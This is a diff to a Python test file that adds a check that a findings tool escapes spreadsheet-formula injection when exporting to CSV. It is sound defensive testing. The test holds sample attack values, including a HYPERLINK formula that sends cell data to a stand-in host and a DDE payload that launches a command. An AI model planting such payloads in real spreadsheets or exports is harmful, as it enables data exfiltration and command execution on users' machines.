@@ -286,3 +286,22 @@ def test_a_word_filter_starting_with_a_bracket_finds_its_findings(built_index, s
     assert held and findings(built_index, settings=settings, word="(IAA)") == held
     assert findings(built_index, settings=settings, word="IAA)") == held  # a word's start, whatever follows
     assert findings(built_index, settings=settings, word="AA)") == []  # not the middle of a word
+
+
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(all_findings):
+    from dataclasses import replace
+
+    from rag.findings import to_csv
+
+    # Report text is anyone's PDF: a finding that begins like a formula must not run as one.
+    plain = all_findings[0]
+    evil = replace(plain, text='=HYPERLINK("http://x.example/?"&A1,"click")', quote="+1+cmd|' /C calc'!A0", theme="@SUM(1)")
+    buf = io.StringIO()
+    to_csv([plain, evil], buf)
+    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
+    assert rows[0]["finding"] == plain.text and rows[0]["quote"] == plain.quote
+    assert (rows[1]["finding"], rows[1]["quote"], rows[1]["theme"]) == (
+        '\'=HYPERLINK("http://x.example/?"&A1,"click")', "'+1+cmd\\|' /C calc'!A0", "'@SUM(1)"
+    )
+    # Numbers stay numbers.
+    assert (rows[1]["start"], rows[1]["end"]) == (str(plain.start), str(plain.end))
